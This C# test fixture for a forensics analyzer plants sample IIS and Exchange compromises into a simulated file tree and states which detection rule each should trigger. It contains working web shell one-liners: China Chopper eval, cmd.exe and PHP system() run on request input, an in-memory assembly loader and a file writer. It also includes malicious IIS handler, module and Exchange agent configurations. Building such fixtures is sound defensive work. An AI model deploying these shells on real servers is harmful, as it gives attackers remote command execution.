using Forensics.Analyzer.Risk;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Web shells of IIS and Exchange, and what these servers are told to load.</summary>
internal static class WindowsWebPlants
{
    private const string Root = "/inetpub/wwwroot/";
    private const string Auth = "/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/";
    private const string Server = "/Windows/System32/inetsrv/config/applicationHost.config";
    private const string Agents = "/Program Files/Microsoft/Exchange Server/V15/TransportRoles/Shared/agents.config";
    private const string Chopper = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>";

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
    private static readonly PlantedPe s_signed = new() { Seed = "module", IsSigned = true };

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-WEBSHELL", "loud-one-line-in-exchange", PlantKind.Loud, tree => tree.File(Auth + "logout2.aspx", "<%@ Page Language=\"Jscript\" %>" + Chopper)) { Rule = "evaluates-request", AtLeast = Severity.Critical },
            new("W-WEBSHELL", "quiet-in-the-offline-address-book", PlantKind.Quiet, tree => tree.File(Root + "aspnet_client/discover.aspx", "Name : OAB (Default Web Site)\r\nExternalUrl : http://f/" + Chopper + "\r\n")) { Rule = "evaluates-request", AtLeast = Severity.Critical, Entries = [Root + "aspnet_client/discover.aspx"] },
            new("W-WEBSHELL", "loud-shell", PlantKind.Loud, tree => tree.File(Root + "help.aspx", "<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + Request.Form[\"c\"]; p.Start(); %>")) { Rule = "runs-request" },
            new("W-WEBSHELL", "quiet-classic", PlantKind.Quiet, tree => tree.File(Root + "images/up.asp", "<%execute request(\"a\")%>")) { Rule = "evaluates-request", AtLeast = Severity.Critical, Entries = [Root + "images/up.asp"] },
            new("W-WEBSHELL", "quiet-memory-loader", PlantKind.Quiet, tree => tree.File(Auth + "errorEE.aspx", "<%@ Page Language=\"C#\" %><% byte[] k = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(new Rijndael().Create(k)).CreateInstance(\"U\").Equals(this); %>")) { Rule = "evaluates-request", Entries = [Auth + "errorEE.aspx"] },
            new("W-WEBSHELL", "quiet-writer", PlantKind.Quiet, tree => tree.File(Root + "shop/save.ashx", "<%@ WebHandler Language=\"C#\" Class=\"S\" %>\r\nclass S { void P(HttpContext context) { System.IO.File.WriteAllText(context.Request.Form[\"path\"], context.Request.Form[\"data\"]); } }")) { Rule = "writes-request", Entries = [Root + "shop/save.ashx"] },
            new("W-WEBSHELL", "loud-php", PlantKind.Loud, tree => tree.File(Root + "blog/a.php", "<?php system($_GET['c']);")) { Rule = "runs-request" },
            new("W-WEBSHELL", "benign-pages", PlantKind.Benign, tree => tree
                .File(Auth + "logon.aspx", "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<script>var s = eval('(' + text + ')');</script>\r\n<% if (Request.QueryString[\"reason\"] != null) { %>x<% } %>")
                .File(Root + "iisstart.htm", "<html></html>").File(Root + "aspnet_client/system_web/4_0_30319/a.js", "var a = 1;").File(Root + "Default.aspx", "<%@ Page Language=\"C#\" Inherits=\"DotNetNuke.Framework.DefaultPage\" %><% var a = System.Reflection.Assembly.Load(\"DotNetNuke\"); var t = Request.QueryString[\"tabid\"]; %>")),
            new("W-WEBSHELL", "benign-upload", PlantKind.Benign, tree => tree.File(Root + "shop/upload.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\r\nclass U { void P(HttpContext context) { var f = context.Request.Files[0]; f.SaveAs(System.IO.Path.Combine(root, System.Guid.NewGuid() + \".bin\")); } }")),
            new("W-IIS", "loud-module-in-temp", PlantKind.Loud, tree => Modules(tree.Pe("/Windows/Temp/cache.dll"), @"C:\Windows\Temp\cache.dll")) { Rule = "foreign-module" },
            new("W-IIS", "quiet-module-in-programdata", PlantKind.Quiet, tree => Modules(tree.Pe("/ProgramData/Vendor/host.dll", s_miner), @"C:\ProgramData\Vendor\host.dll")) { AtLeast = Severity.Critical, Entries = [Server] },
            new("W-IIS", "quiet-unsigned-module", PlantKind.Quiet, tree => Modules(tree.Pe("/Windows/System32/inetsrv/httpkt.dll"), @"%windir%\System32\inetsrv\httpkt.dll")) { Rule = "unsigned-module", AtLeast = Severity.Medium, Entries = [Server] },
            new("W-IIS", "quiet-filter", PlantKind.Quiet, tree => Filter(tree, isOff: false)) { Rule = "foreign-module", Entries = [Server] },
            new("W-IIS", "dormant-filter", PlantKind.Dormant, tree => Filter(tree, isOff: true)) { TwinOf = "quiet-filter" },
            new("W-IIS", "quiet-handler-for-pictures", PlantKind.Quiet, tree => tree.File(Root + "web.config", Handler("*.jpg", @"scriptProcessor=""%windir%\system32\inetsrv\asp.dll"" modules=""IsapiModule"""))) { Rule = "handler", Entries = [Root + "web.config"] },
            new("W-IIS", "loud-interpreter", PlantKind.Loud, tree => tree.File(Root + "web.config", Handler("*.x", @"scriptProcessor=""C:\Windows\System32\cmd.exe|/c"" modules=""CgiModule"""))) { Rule = "handler-interpreter" },
            new("W-IIS", "benign-modules", PlantKind.Benign, tree => Modules(tree.Pe("/Windows/System32/inetsrv/loghttp.dll").Pe("/Program Files/IIS/Asp.Net Core Module/V2/aspnetcorev2.dll", s_signed), @"%ProgramFiles%\IIS\Asp.Net Core Module\V2\aspnetcorev2.dll")),
            new("W-IIS", "benign-handlers", PlantKind.Benign, tree => tree.Pe("/Program Files/PHP/php-cgi.exe", s_signed).File(Root + "web.config", Handler("*.php", @"scriptProcessor=""C:\Program Files\PHP\php-cgi.exe"" modules=""FastCgiModule""").Replace("</handlers>", "<add name=\"pictures\" path=\"*.jpg\" verb=\"GET\" type=\"ImageResizer.Handler, ImageResizer\" /></handlers>", StringComparison.Ordinal))),
            new("W-EXCHANGE", "loud-agent", PlantKind.Loud, tree => tree.Pe("/ProgramData/mail.dll").File(Agents, Agent(@"C:\ProgramData\mail.dll"))) { Rule = "foreign-agent" },
            new("W-EXCHANGE", "quiet-miner-as-agent", PlantKind.Quiet, tree => tree.Pe("/ExchangeTools/Filter.dll", s_miner).File(Agents, Agent(@"C:\ExchangeTools\Filter.dll"))) { AtLeast = Severity.Critical, Entries = [Agents] },
            new("W-EXCHANGE", "dormant-agent", PlantKind.Dormant, tree => tree.Pe("/ProgramData/mail.dll").File(Agents, Agent(@"C:\ProgramData\mail.dll", "false"))) { TwinOf = "loud-agent" },
            new("W-EXCHANGE", "benign-agents", PlantKind.Benign, tree => tree.Pe("/Program Files/Microsoft/Exchange Server/V15/TransportRoles/agents/Hygiene/Microsoft.Exchange.Transport.Agent.Hygiene.dll", s_signed)
                .File(Agents, Agent(@"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\agents\Hygiene\Microsoft.Exchange.Transport.Agent.Hygiene.dll"))),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static PlantTree Modules(PlantTree tree, string image) => tree.File(Server, $$"""
        <?xml version="1.0" encoding="UTF-8"?>
        <configuration><system.webServer><globalModules>
        <add name="HttpLoggingModule" image="%windir%\System32\inetsrv\loghttp.dll" />
        <add name="AnotherModule" image="{{image}}" />
        </globalModules></system.webServer></configuration>
        """);

    private static PlantTree Filter(PlantTree tree, bool isOff) => tree.Pe("/ProgramData/Vendor/filter.dll").File(Server,
        $"<configuration><system.webServer><isapiFilters><filter name=\"Compress\" path=\"C:\\ProgramData\\Vendor\\filter.dll\" enabled=\"{(isOff ? "false" : "true")}\" /></isapiFilters></system.webServer></configuration>");

    private static string Handler(string path, string what) => $"<configuration><system.webServer><handlers><add name=\"h\" path=\"{path}\" verb=\"*\" {what} /></handlers></system.webServer></configuration>";

    private static string Agent(string assembly, string enabled = "true") =>
        $"<configuration><mexRuntime><monitoring /><agentList><agent name=\"Mail Filter\" baseType=\"Microsoft.Exchange.Data.Transport.Routing.RoutingAgent\" classFactory=\"Mail.Factory\" assemblyPath=\"{assembly}\" enabled=\"{enabled}\" /></agentList></mexRuntime></configuration>";
}
